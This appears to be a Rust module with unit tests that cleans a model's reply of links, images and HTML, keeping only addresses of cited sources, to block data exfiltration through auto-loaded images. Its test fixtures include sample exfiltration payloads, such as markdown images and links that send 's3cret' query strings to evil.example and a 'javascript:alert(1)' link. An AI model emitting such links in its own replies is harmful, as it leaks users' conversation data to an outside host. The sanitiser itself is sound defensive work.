//! Removal of links, images and markup from a model's text, except for links to cited sources.
//!
//! A link can carry data out of a conversation: an image with the visitor's words in its query is loaded
//! without a click. Therefore only the addresses of the cited passages are kept.

use super::reply::markers;

/// Removes images, HTML tags and citation markers from a text, and reduces links to their words unless their
/// address is in `allowed`.
pub(super) fn clean(text: &str, allowed: &[&str]) -> String {
    let mut unmarked = String::with_capacity(text.len());
    let mut from = 0;
    for (start, end, _) in markers(text) {
        if start >= from {
            unmarked.push_str(text[from..start].trim_end_matches(' '));
            from = end;
        }
    }
    unmarked.push_str(&text[from..]);
    let untagged = without_tags(&unmarked, allowed);
    let unlinked = without_foreign_markdown(&untagged, allowed);
    without_bare_addresses(&unlinked, allowed)
}

/// Returns the size in bytes of the beginning of a text whose markup is complete: how its rest is cleaned
/// does not change how this beginning is, provided that a space follows it.
pub(super) fn complete_markup(text: &str) -> usize {
    unfinished_tag(text).unwrap_or(text.len()).min(unfinished_link(text).unwrap_or(text.len()))
}

fn unfinished_tag(text: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(start) = text[from..].find('<').map(|at| from + at) {
        let after = &text[start + 1..];
        from = match (is_tag(after) || after.is_empty(), after.find('>')) {
            (true, None) => return Some(start),
            (true, Some(end)) => start + 1 + end,
            (false, _) => start + 1,
        };
    }
    None
}

fn unfinished_link(text: &str) -> Option<usize> {
    let mut from = 0;
    while let Some(start) = text[from..].find('[').map(|at| from + at) {
        let close = text[start..].find(']').map(|at| start + at + 1);
        let end = close.and_then(|close| match text[close..].strip_prefix('(') {
            Some(target) => target.find(')').map(|at| close + at + 2),
            None => Some(close),
        });
        let Some(end) = end else {
            // The mark of an image belongs to it.
            return Some(if text[..start].ends_with('!') { start - 1 } else { start });
        };
        from = end;
    }
    None
}

/// Returns whether `<` before this text begins a tag: "< 5 kg" does not.
fn is_tag(after: &str) -> bool {
    after.starts_with(|next: char| next.is_alphabetic() || matches!(next, '/' | '!' | '?'))
}

/// Returns whether an address is allowed, ignoring a slash at the end.
fn is_allowed(address: &str, allowed: &[&str]) -> bool {
    let plain = |address: &str| address.trim().trim_end_matches('/').to_owned();
    !address.trim().is_empty() && allowed.iter().any(|known| plain(known) == plain(address))
}

/// Removes `<…>`, but keeps the address of an allowed `<https://…>`.
fn without_tags(text: &str, allowed: &[&str]) -> String {
    let mut clean = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find('<') {
        clean.push_str(&rest[..start]);
        let after = &rest[start + 1..];
        let is_tag = is_tag(after);
        match after.find('>').filter(|_| is_tag) {
            Some(end) => {
                if is_allowed(&after[..end], allowed) {
                    clean.push_str(&after[..end]);
                }
                rest = &after[end + 1..];
            }
            None if is_tag => rest = "",
            None => {
                clean.push('<');
                rest = after;
            }
        }
    }
    clean.push_str(rest);
    clean
}

/// Removes `![…](…)`, and reduces `[words](address)` to its words unless the address is allowed. Link
/// references (`[words][id]`, `[id]: address`) lose their brackets; the next step removes their addresses.
fn without_foreign_markdown(text: &str, allowed: &[&str]) -> String {
    let mut clean = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find('[') {
        let image = rest[..start].ends_with('!');
        clean.push_str(&rest[..start - usize::from(image)]);
        let after = &rest[start + 1..];
        let Some(close) = after.find(']') else {
            rest = after;
            continue;
        };
        let words = &after[..close];
        let tail = &after[close + 1..];
        let target = tail.strip_prefix('(').and_then(|inside| {
            let end = inside.find(')')?;
            Some((inside[..end].split_whitespace().next().unwrap_or_default(), end + 2))
        });
        if let Some((address, length)) = target {
            if !image && is_allowed(address, allowed) && !words.contains("://") {
                clean.extend(["[", words, "](", address, ")"]);
            } else if !image {
                clean.push_str(words);
            }
            rest = &tail[length..];
        } else {
            // Unfinished or by reference: keeps the words of a link, but not those of an image.
            if !image {
                clean.push_str(words);
            }
            rest = tail;
        }
    }
    clean.push_str(rest);
    clean
}

/// Removes words that are addresses, unless they are allowed or inside an allowed Markdown link.
fn without_bare_addresses(text: &str, allowed: &[&str]) -> String {
    let mut clean = String::with_capacity(text.len());
    for piece in text.split_inclusive(char::is_whitespace) {
        let word = piece.trim_end();
        let space = &piece[word.len()..];
        let core = word.trim_matches(|character: char| "()\"'.,;:!?*_“”«»„".contains(character));
        let lower = core.to_lowercase();
        let address = lower.contains("://")
            || lower.starts_with("www.")
            || lower.starts_with("mailto:")
            || lower.starts_with("javascript:")
            || lower.starts_with("data:")
            || is_host_with_path(&lower);
        let linked = core.contains("](")
            && allowed.iter().any(|known| core.contains(&format!("]({}", known.trim_end_matches('/'))));
        if !address || linked || is_allowed(core, allowed) {
            clean.push_str(piece);
            continue;
        }
        let tail = word.trim_end_matches(['.', ',', ';', '!', '?']);
        while clean.ends_with(' ') {
            clean.pop();
        }
        clean.push_str(&word[tail.len()..]);
        clean.push_str(space);
    }
    clean
}

/// Returns whether a word is an address without a scheme: `evil.example/x`, but not `and/or` or `1.5/2`.
fn is_host_with_path(word: &str) -> bool {
    let Some((host, _)) = word.split_once(['/', '?', '#']) else { return false };
    let Some((name, top)) = host.rsplit_once('.') else { return false };
    !name.is_empty() && top.len() >= 2 && top.chars().all(char::is_alphabetic)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_addresses_of_cited_sources_survive() {
        let allowed = ["https://acme.example/prices", "https://acme.example/help/"];
        for (text, expected) in [
            ("See [prices](https://acme.example/prices).", "See [prices](https://acme.example/prices)."),
            ("See [help](https://acme.example/help).", "See [help](https://acme.example/help)."),
            (
                "See our [full price list](https://acme.example/prices) now.",
                "See our [full price list](https://acme.example/prices) now.",
            ),
            ("See [prices](https://evil.example/?q=s3cret).", "See prices."),
            ("See [prices](https://acme.example/prices?q=s3cret).", "See prices."),
            ("See [https://acme.example](https://evil.example).", "See."),
            ("Go to https://acme.example/prices now.", "Go to https://acme.example/prices now."),
            ("Go to https://evil.example/x now.", "Go to now."),
            ("Go to evil.example/x?q=1.", "Go to."),
            ("Go to www.evil.example, now.", "Go to, now."),
            ("![x](https://evil.example/p.png?d=s3cret)Hello", "Hello"),
            ("![x](https://acme.example/prices) Hello", " Hello"),
            ("<img src=https://evil.example/p.png>Hello <b>you</b>", "Hello you"),
            ("<https://evil.example> hello", " hello"),
            ("<https://acme.example/prices> hello", "https://acme.example/prices hello"),
            ("Click [here][1]\n\n[1]: https://evil.example", "Click here\n\n:"),
            ("It costs $7 [S1]. Yes [2].", "It costs $7. Yes."),
            ("Parcels < 5 kg and/or 1.5/2 m.", "Parcels < 5 kg and/or 1.5/2 m."),
            ("<img src=x", ""),
            ("[open", "open"),
        ] {
            assert_eq!(clean(text, &allowed), expected, "{text}");
        }
    }

    #[test]
    fn markup_is_complete_where_nothing_that_follows_changes_it() {
        for (text, expected) in [
            ("It costs $7 [S1]. ", "It costs $7 [S1]. "),
            (
                "See [prices](https://acme.example/prices) now. ",
                "See [prices](https://acme.example/prices) now. ",
            ),
            ("See the [price list. It", "See the "),
            ("See [prices](https://acme.example/a. It", "See "),
            ("So! ![chart](https://evil", "So! "),
            ("A <b>word</b> <a href", "A <b>word</b> "),
            ("Below < 5 kg. ", "Below < 5 kg. "),
            ("Below <", "Below "),
            ("", ""),
        ] {
            assert_eq!(&text[..complete_markup(text)], expected);
        }
    }

    #[test]
    fn unusual_spellings_of_other_addresses_are_removed() {
        for text in [
            "[a](<https://evil.example>)",
            "[a]( https://evil.example \"title\")",
            "[a](HTTPS://EVIL.example)",
            "[![x](https://evil.example/p.png)](https://evil.example)",
            "![x][r]\n[r]: https://evil.example/p.png",
            "[a](javascript:alert(1))",
            "(https://evil.example)",
            "\"https://evil.example\"",
            "**https://evil.example**",
            "https://acme.example/prices@evil.example",
            "[a](https://evil.example/a)b)",
        ] {
            let clean = clean(text, &["https://acme.example/prices"]);
            let lower = clean.to_lowercase();
            assert!(!lower.contains("evil") && !lower.contains("javascript"), "{text} became {clean}");
        }
    }
}
